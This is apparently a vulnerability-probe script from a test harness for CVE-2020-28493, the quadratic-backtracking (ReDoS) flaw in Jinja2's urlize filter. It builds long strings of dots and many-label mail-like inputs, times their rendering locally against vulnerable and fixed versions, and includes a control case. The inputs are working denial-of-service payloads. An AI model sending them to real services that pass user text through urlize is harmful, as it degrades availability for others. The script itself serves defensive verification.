# /// vertice-probe
# id = "PYSEC-2021-66"
# aliases = ["CVE-2020-28493", "GHSA-g3rq-g295-4j3m", "SNYK-PYTHON-JINJA2-1012994"]
# package = "jinja2"
# summary = """\
#   The pattern with which urlize looks for punctuation around a word backtracks, so a long word of dots takes \
#   quadratic time."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L" }]
# cwe = ["CWE-400", "CWE-1333"]
# kind = "redos"
# symbols = ["jinja2.utils.urlize", "jinja2.filters.do_urlize", "jinja2.Environment", "jinja2.Template"]
#
# [[affected]]
# package = "jinja2"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "2.11.3" }] }]
#
# [cases]
# attack = "the urlize filter on a word of dots takes quadratic time"
# [cases.variants]
# mail = "jinja2.utils.urlize on something like a mail address with many labels"
# [cases.controls]
# links = "addresses in a text become links, without the punctuation around"
#
# [test]
# vulnerable = "2.11.2"
# fixed = "2.11.3"
# with = ["markupsafe<2.1"]
# ///
"""CVE-2020-28493: quadratic backtracking in urlize."""

import collections
import collections.abc
import json
import sys
import time

for _name in ("Mapping", "MutableMapping", "MutableSet", "MutableSequence"):
    if not hasattr(collections, _name):  # old releases want them where they were before Python 3.10
        setattr(collections, _name, getattr(collections.abc, _name))


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def attack():
    from jinja2 import Environment

    template = Environment().from_string("{{ text|urlize }}")

    def work(size):
        text = "www.example.org " + "." * size + "a"
        output = template.render(text=text)
        if 'href="http' not in output or not output.endswith("." * size + "a"):
            raise RuntimeError("unexpected output %r" % output[:80])
        return "the first word became a link"

    return judge(work, 750, 6000, 22, "dots")


def mail():
    from jinja2.utils import urlize

    def work(size):
        output = str(urlize("www.example.org a@" + "a." * size + "!"))
        if 'href="http' not in output or not output.endswith("a.!"):
            raise RuntimeError("unexpected output %r" % output[:80])
        return "the first word became a link"

    return judge(work, 1250, 10000, 22, "labels")


def links():
    from jinja2 import Environment

    output = Environment().from_string("{{ text|urlize }}").render(text="see (http://example.org/a?b=1), <www.x.org>.")
    good = 'href="http://example.org/a?b=1"' in output and "www.x.org</a>&gt;." in output and "see (<a" in output
    return ("works" if good else "broken"), output


CASES = {"attack": attack, "mail": mail, "links": links}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
